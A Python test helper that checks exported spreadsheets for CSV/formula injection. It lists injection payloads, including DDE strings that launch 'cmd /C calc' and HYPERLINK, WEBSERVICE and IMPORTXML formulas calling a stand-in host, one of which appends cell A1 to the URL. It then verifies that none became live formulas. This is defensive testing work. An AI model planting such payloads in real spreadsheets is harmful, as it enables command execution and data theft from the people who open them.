"""Texts that a spreadsheet might take for formulas, and the check that none of them became one (CSV injection, DDE)."""

import re
import subprocess
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
from python_calamine import CalamineWorkbook

from tests.libre_office import OFFICE

_TEXTS = (
    "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    '=HYPERLINK("http://x.test/?a="&A1,"点击")', "'=1+1", '"=1+1"', "{=1+1}", " =1+1", '=WEBSERVICE("http://x.test")',
    '=DDE("cmd";"/C calc";"x")', "+cmd|'/C calc'!A0", '=IMPORTXML("http://x.test","//a")', "%0A=1+1", "=1+1\r\n=2+2",
    "=" + "A" * 200, "=\u200b1+1",
)  # fmt: skip
MARK = "§"
PAYLOADS = tuple(f"{text}{MARK}{number:02d}" for number, text in enumerate(_TEXTS))
"""Each ends with a mark and its number, so that it is known again wherever it stands."""
_FOUND = re.compile(f"{MARK}(\\d\\d)")
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


@dataclass(frozen=True, slots=True)
class Checked:
    """What a workbook holds: how many cells with such a text, which became formulas, and which texts were changed."""

    cells: int
    formulas: tuple[str, ...]
    changed: tuple[str, ...]


def written(payload: str) -> str:
    """How a cell holds a text: line breaks are line feeds, as Excel itself writes them."""
    return payload.replace("\r\n", "\n").replace("\r", "\n")


def checked(path: Path) -> Checked:
    """The workbook as openpyxl and calamine read it, and its sheets' own XML searched for formulas."""
    formulas, texts = [], []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}")
                elif isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and _FORMULA.search(package.read(name)):
                formulas.append(name)
    book = CalamineWorkbook.from_path(str(path))
    texts += [
        str(value) for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for value in row
    ]
    return Checked(sum(MARK in text for text in texts), tuple(formulas), tuple(changed(texts)))


def formulas_in_libre_office(paths: Iterable[Path], scratch: Path) -> list[str]:
    """The workbooks in which LibreOffice sees a live formula, once it has opened and saved them."""
    assert OFFICE is not None, "LibreOffice is installed"
    profile = f"-env:UserInstallation=file://{scratch / 'profile'}"
    command = [OFFICE, profile, "--headless", "--convert-to", "fods", "--outdir", str(scratch), *map(str, paths)]
    subprocess.run(command, check=True, capture_output=True, timeout=900)
    return [path.name for path in sorted(scratch.glob("*.fods")) if b"table:formula" in path.read_bytes()]


def changed(texts: Iterable[str]) -> Iterator[str]:
    """Texts in which a mark stands without the text that belongs to it; blanks at its ends may have been trimmed."""
    for text in texts:
        for number in _FOUND.findall(text):
            if written(PAYLOADS[int(number)]).strip(" ") not in text:
                yield text
